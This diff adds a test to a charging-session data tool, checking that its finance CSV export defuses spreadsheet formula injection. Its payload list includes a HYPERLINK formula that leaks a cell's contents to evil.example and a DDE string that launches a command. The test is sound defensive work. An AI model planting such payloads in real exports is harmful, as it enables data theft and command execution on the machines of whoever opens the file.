@@ -107,3 +107,36 @@ def test_compact_and_prune_commands(filled: Path, put: Put,
     assert capsys.readouterr().out.startswith("merged 2 files into 1")
     assert main(["prune", "--data-dir", str(filled), "--older-than", "30"]) == 0
     assert "pruned frames of 1 days" in capsys.readouterr().out
+
+
+# Charger-chosen text a spreadsheet would run (OWASP CSV injection): each as an idTag, one as a
+# 2.0.1 transactionId, one as the charge point id (so also the session id's start).
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"refund")', "+cmd|' /C calc'!A0", "-2+3",
+           "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+
+
+def hostile_sessions(put: Put) -> None:
+    put("sessions", [session(str(i), id_tag=tag) for i, tag in enumerate(HOSTILE)])
+    put("sessions", [session("=1+2", protocol="ocpp2.0.1", charge_point_id="@CP-9",
+                             id_tag="TAG9")])
+
+
+def test_export_finance_csv_shows_charger_text_and_never_runs_it(data_dir: Path, put: Put,
+                                                                 tmp_path: Path) -> None:
+    import pyarrow.parquet as pq
+
+    hostile_sessions(put)
+    args = ["export", "finance", "--data-dir", str(data_dir), "--from", "2026-01-01",
+            "--to", "2026-01-01", "--output"]
+    assert main([*args, str(tmp_path / "x.csv"), "--format", "csv"]) == 0
+    assert main([*args, str(tmp_path / "x.parquet"), "--format", "parquet"]) == 0
+    got = list(csv.DictReader((tmp_path / "x.csv").open(newline="")))
+    by_id = {r["session_id"]: r for r in got}
+    assert sorted(r["id_tag"] for r in got) == sorted(["TAG9", *("'" + t for t in HOSTILE)])
+    assert by_id["'@CP-9/=1+2"]["charge_point_id"] == "'@CP-9"
+    assert by_id["'@CP-9/=1+2"]["transaction_id"] == "'=1+2"
+    cells = [cell for row in got for cell in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    raw = pq.read_table(tmp_path / "x.parquet").to_pylist()
+    assert sorted(r["id_tag"] for r in raw) == sorted(["TAG9", *HOSTILE])
+    assert {r["charge_point_id"] for r in raw} == {"CP1", "@CP-9"}
